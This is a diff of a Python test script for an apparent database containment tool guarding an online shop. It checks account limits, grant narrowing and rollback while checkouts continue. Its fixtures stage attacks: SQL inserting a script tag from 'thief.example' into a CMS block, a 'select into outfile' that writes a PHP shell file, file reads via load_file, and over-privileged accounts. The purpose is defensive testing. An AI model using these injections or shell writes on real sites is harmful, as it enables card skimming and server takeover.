@@ -19,8 +19,8 @@ sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "shop"))
 
 from contain import HOSTS_OF, Checkouts, Containment
 from shared import client, need, stage
-from playbook_story import signed, token_works
-from shop import KEY, Shop
+from playbook_story import Connection, bought as buys, logs_in, signed, token_works
+from shop import KEY, SECRET, Shop
 
 ROOT = pathlib.Path(__file__).resolve().parents[2]
 # What checkouts write themselves.
@@ -41,6 +41,17 @@ insert into mg_cron_schedule (job_code, status, created_at, scheduled_at) values
 update mg_cms_block set content = '<script src="//thief.example/x.js"></script>', update_time = '2026-02-03';
 """
 
+# Whoever holds more than they need; and what the shop's own account never needed.
+TOO_MUCH = """
+create user erp@'%' identified by 'erp' require none with max_updates_per_hour 100;
+grant select on shop.* to erp@'%';
+grant insert, update (title, content), update on shop.mg_cms_block to erp@'%' with grant option;
+grant file on *.* to erp@'%';
+grant file on *.* to shop@localhost;
+"""
+# Where the manual begins with what our account needs for this alone.
+FOR_NARROWING = "### Rights that are taken away"
+
 
 def contract(folder):
     """The contract of actions, at the shop's own server; the shop's schema is made anew by it, so this comes first."""
@@ -54,9 +65,8 @@ class AtDatabase(Containment):
 
     def __init__(self, magewarden, shop):
         super().__init__(magewarden, shop)
-        manual = (ROOT / "docs/containment.md").read_text()
-        for line in re.findall(r"^(?:CREATE USER|GRANT) .*;$", manual, re.M):
-            shop.sql(line.replace("`shop`.`", "`shop`.`mg_").replace("PASSWORD", "word"))
+        manual, self.narrowing = (ROOT / "docs/containment.md").read_text().split(FOR_NARROWING)
+        self.granted(manual)
         self.word, self.good = shop.folder / "word", shop.folder / "good"
         self.word.write_text("word\n")
         self.word.chmod(0o600)
@@ -65,13 +75,22 @@ class AtDatabase(Containment):
             settings.write(f'[database]\nsocket = "{shop.folder}/sock"\nuser = "containment"\npassword_file = "{self.word}"\nschema = "shop"\nprefix = "mg_"\n'
                            f'good_rows = "{self.good}"\n')
 
+    def granted(self, manual):
+        """Gives the account what a part of the manual says."""
+        for line in re.findall(r"^(?:CREATE USER|GRANT) .*;$", manual, re.M):
+            self.shop.sql(line.replace("`shop`.`", "`shop`.`mg_").replace("PASSWORD", "word"))
+
     def seen(self):
         """All rows but those that checkouts write, accounts with their grants, triggers."""
         sql, out = self.shop.sql, {}
         for table in sql("select table_name from information_schema.tables where table_schema = 'shop'").split():
             if table not in SOLD and table != "mg_cache_tag_index":
                 out[table] = sql(f"select * from shop.{table}")
-        out["account"] = sql("show create user report@'%'; show grants for report@'%'")
+        for account in sql("select concat(quote(user), '@', quote(host)) from mysql.user where user in ('report', 'erp', 'shop')").split():
+            # The server names columns in the order in which they were granted since it began.
+            in_order = lambda found: "(" + ", ".join(sorted(found[1].split(", "))) + ")"
+            out[f"account {account}"] = re.sub(r"\((`[^)]*)\)", in_order, sql(f"show create user {account}; show grants for {account}"))
+        out["grants on tables"] = sorted(sql("select host, db, user, table_name, table_priv, column_priv from mysql.tables_priv; select * from mysql.columns_priv").split("\n"))
         for trigger in sql("select trigger_name from information_schema.triggers where trigger_schema = 'shop'").split():
             out[f"trigger {trigger}"] = sql(f"show create trigger shop.{trigger}")
         return out
@@ -108,6 +127,93 @@ class AtDatabase(Containment):
 def thief(shop):
     """Somebody who logs in with the stolen account's password."""
     return subprocess.run(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-ureport", "-preport", "-e", "select 1"], capture_output=True).returncode == 0
+
+
+def narrowed(at, shop, started):
+    """Limits and rights of accounts that something needs: what they stop, what they don't, and that no more is lost by them."""
+    shop.sql(TOO_MUCH)
+    bought, erp = 0, ["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-uerp", "-perp", "-e"]
+    statements = lambda count: subprocess.run([*erp, "select 1;" * count], capture_output=True).returncode == 0
+    limit = ["limit_database_account", "account=erp@%", "queries_per_hour=20"]
+    bought += at.contained(limit, lambda: statements(40))
+    need(statements(40), "undone, the account asks as often as it likes")
+    words = [part for word in limit[1:] for part in ("--set", word)]
+    before, among = Connection(shop, started, "erp", "erp"), Connection(shop, started, "erp", "erp")
+    need(before.reads() and among.reads(), "two connections are open")
+    at.right(limit[0], *words, "--act")
+    need(all(before.reads() and among.reads() for _ in range(30)), "connections that are open go on, as is said")
+    at.right(limit[0], *words, "--undo")
+    words = ["--set", "account=erp@%", "--set", "connections=1"]
+    at.right(limit[0], *words, "--act")
+    need(not logs_in(shop, "erp", "erp"), "they began under another limit, so they are counted")
+    at.right("end_connections", "--set", "account=erp@%", "--act")
+    need(not before.reads() and not among.reads(), "ended, they are gone")
+    begun = Connection(shop, started, "erp", "erp")
+    need(begun.reads() and not logs_in(shop, "erp", "erp"), "there is one connection at a time")
+    begun.end()
+    at.right(limit[0], *words, "--undo")
+    need(logs_in(shop, "erp", "erp") and statements(40), "undone, all connects again")
+    words = ["--set", "account=report@%", "--set", "connections=1"]
+    before, among = Connection(shop, started, "report", "report"), Connection(shop, started, "report", "report")
+    need(before.reads() and among.reads(), "two connections are open")
+    at.right(limit[0], *words, "--act")
+    begun = Connection(shop, started, "report", "report")
+    need(begun.reads() and not thief(shop) and before.reads() and among.reads(), "those that began without any limit go on and aren't counted")
+    at.right(limit[0], *words, "--undo")
+    need(thief(shop), "undone, all connects again")
+    for one in (before, among, begun):
+        one.end()
+    at.refused(["limit_database_account", "account=shop@localhost", "connections=50"], "every page would fail")
+
+    # A statement that came in by the shop's own account writes a file that the web server runs.
+    def writes(user, password):
+        place = shop.folder / "mysql" / "shell.php"
+        place.unlink(missing_ok=True)
+        done = subprocess.run(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", f"-u{user}", f"-p{password}", "-e",
+                               f"select '<?php 1;' into outfile '{place}'"], capture_output=True)
+        return done.returncode == 0 and place.exists()
+
+    right = lambda account, name, on: ["narrow_grants", f"account={account}", f"privilege={name}", f"on={on}"]
+    at.refused(right("shop@localhost", "FILE", "*.*"), "GRANT FILE ON *.* TO `containment`@`localhost` WITH GRANT OPTION")
+    at.granted(at.narrowing)
+    bought += at.contained(right("shop@localhost", "FILE", "*.*"), lambda: writes("shop", SECRET))
+    need(writes("shop", SECRET), "undone, it writes again")
+    bought += at.contained(right("erp@%", "SELECT", "shop.*"), lambda: logs_in(shop, "erp", "erp"))
+    defaces = lambda: subprocess.run([*erp, "update shop.mg_cms_block set title = title where block_id = 1"], capture_output=True).returncode == 0
+    bought += at.contained(right("erp@%", "UPDATE", "shop.mg_cms_block"), defaces)
+
+    asked = [part for word in right("erp@%", "FILE", "*.*")[1:] for part in ("--set", word)]
+    opened = subprocess.Popen(["mariadb", "--no-defaults", f"--socket={shop.folder}/sock", "-uerp", "-perp", "-NB", "--unbuffered"], stdin=subprocess.PIPE,
+                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
+    started.append(opened)
+
+    plain = shop.folder / "plain"
+    plain.write_text("secret\n")
+    plain.chmod(0o644)
+
+    def loads():
+        opened.stdin.write(f"select load_file('{plain}') is not null;\n")
+        opened.stdin.flush()
+        return opened.stdout.readline().strip() == "1"
+
+    need(loads(), "a file is read")
+    at.right("narrow_grants", *asked, "--act")
+    need(loads(), "a connection that is open keeps the right, as is said")
+    need(not writes("erp", "erp"), "a new one hasn't it")
+    at.right("narrow_grants", *asked, "--undo")
+    opened.kill()
+    opened.wait()
+
+    # Orders copy themselves by the rights of whoever made the trigger: taken away, nobody buys.
+    at.refused(right("report@%", "TRIGGER", "shop.*"), "drop_trigger first, or see to order_index")
+    at.refused(right("report@%", "INSERT", "shop.mg_cache_tag_index"), "drop_trigger first, or see to order_index")
+    at.refused(right("shop@localhost", "TRIGGER", "shop.*"), "it may sell nothing")
+    at.refused(right("shop@localhost", "SELECT", "shop.*"), "it may sell nothing")
+    shop.sql("revoke trigger on shop.* from report@'%'")
+    need(not buys(shop, "de", None), "without the right that a trigger runs by nobody buys")
+    shop.sql("grant trigger on shop.* to report@'%'")
+    need(copies(shop), "with it they do")
+    return bought
 
 
 def copies(shop):
@@ -223,6 +329,8 @@ def main():
         config = shop.root / "app/etc/config.php"
         config.write_text("<?php return ['system' => ['websites' => ['second' => ['payment' => ['checkmo' => ['active' => '1']]]]]];\n")
         at.refused(["disable_payment_method", "website=second", "method=checkmo"], "app/etc/config.php under system/websites/second/payment/checkmo/active")
+        config.write_text("<?php return [];\n")
+        bought += narrowed(at, shop, started)
         # Somebody holds what a step needs: it gives up by itself, and says so.
         holder = subprocess.Popen(client(shop.folder), stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True)
         started.append(holder)
@@ -234,7 +342,7 @@ def main():
         need(done.returncode == 1 and time.monotonic() - begun < 14, "a lock is waited for a few seconds", done.stdout + done.stderr)
         holder.stdin.close()
         holder.wait(10)
-        print(f"23 passed, 0 failed (the contract of actions, 12 attacks contained and taken back, 9 refusals, a lock that isn't given; {bought} checkouts meanwhile)")
+        print(f"36 passed, 0 failed (the contract of actions, 16 attacks contained and taken back, 15 refusals, 3 looks at what stays open, a lock that isn't given; {bought} checkouts meanwhile)")
 
 
 if __name__ == "__main__":
